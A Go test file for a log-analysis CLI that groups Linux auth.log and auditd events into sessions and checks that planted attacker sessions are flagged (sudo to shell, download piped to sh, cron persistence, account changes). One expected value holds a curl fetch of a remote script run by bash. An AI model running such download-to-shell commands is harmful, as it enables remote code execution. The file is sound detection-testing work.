package cli

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"
)

// TestLinuxSessions runs the verb on the syslog and auditd samples: sshd logons from several
// addresses, failed guesses, sudo sessions benign and risky, a sudo to bash whose root shell
// pipes a download to sh and installs a crontab. Every planted risky session is flagged with its
// reasons, and nothing benign is.
func TestLinuxSessions(t *testing.T) {
	files := []string{"../../examples/linux/auth.log", "../../examples/linux/audit.log"}
	code, out, errOut := runHunch(t, "", append([]string{"analyze", "linux-sessions", "-o", "ndjson"}, files...)...)
	if code != ExitOK {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	type session struct {
		Start, Kind, User, By, Source, Status string
		Commands, Reasons                     []string
		Risky                                 bool
	}
	var all []session
	for _, l := range strings.Split(strings.TrimSpace(out), "\n") {
		var s session
		if err := json.Unmarshal([]byte(l), &s); err != nil {
			t.Fatal(err)
		}
		all = append(all, s)
	}
	if len(all) != 14 {
		t.Fatalf("%d sessions:\n%s", len(all), out)
	}
	planted := map[string][]string{ // start → the reasons it must carry
		"2026-11-23T08:11:00Z": {"sudo to a shell", "download piped to a shell", "cron persistence"},
		"2026-11-23T09:02:00Z": {"account created or changed"},
	}
	for _, s := range all {
		want, isPlanted := planted[s.Start]
		if isPlanted {
			if !s.Risky || !slices.Equal(s.Reasons, want) {
				t.Errorf("planted session at %s: risky=%v %v, want %v", s.Start, s.Risky, s.Reasons, want)
			}
			continue
		}
		if s.Risky {
			t.Errorf("benign session at %s (%s %s) flagged: %v", s.Start, s.Kind, s.User, s.Reasons)
		}
	}
	bob := all[8]
	if bob.Kind != "sudo" || bob.User != "root" || bob.By != "bob" || len(bob.Commands) != 5 ||
		!strings.Contains(strings.Join(bob.Commands, "\n"), "curl -fsSL http://203.0.113.99/i.sh  ← /usr/bin/bash ← /usr/bin/bash") {
		t.Errorf("bob's sudo session: %+v", bob)
	}
	if all[1].Source != "203.0.113.10" || !slices.Contains(all[1].Commands, "git pull  ← /usr/bin/bash") {
		t.Errorf("alice's ssh session holds her commands through auditd's session id: %+v", all[1])
	}
	failed := 0
	for _, s := range all {
		if s.Status == "failed" {
			failed++
		}
	}
	if failed != 3 || all[13].Status != "open" {
		t.Errorf("%d failed logons; carol's session %s", failed, all[13].Status)
	}

	code, out, _ = runHunch(t, "", append([]string{"analyze", "linux-sessions", "--risky", "-o", "ndjson"}, files...)...)
	if code != ExitOK || strings.Count(out, "\n") != 2 {
		t.Errorf("--risky: %s", out)
	}
	code, out, _ = runHunch(t, "", append([]string{"analyze", "linux-sessions", "--logons", "-o", "ndjson"}, files...)...)
	var rare []string
	for _, l := range strings.Split(strings.TrimSpace(out), "\n") {
		var c struct {
			User, Source     string
			Logons, Failures int
			Rare             bool
		}
		json.Unmarshal([]byte(l), &c)
		if c.Rare {
			rare = append(rare, c.User+"@"+c.Source)
		}
		if c.User == "admin" && (c.Failures != 2 || c.Logons != 0) {
			t.Errorf("admin's guesses: %+v", c)
		}
		if c.User == "alice" && c.Source == "203.0.113.10" && c.Logons != 2 {
			t.Errorf("alice's usual address: %+v", c)
		}
	}
	if code != ExitOK || !slices.Equal(rare, []string{"alice@192.0.2.50"}) {
		t.Errorf("rare logons %v:\n%s", rare, out)
	}
	if code, _, errOut := runHunch(t, "", "analyze", "linux-sessions", "--max-events", "10", files[0]); code != ExitFailure || !strings.Contains(errOut, "more than 10") {
		t.Errorf("the event limit: %d %s", code, errOut)
	}
}
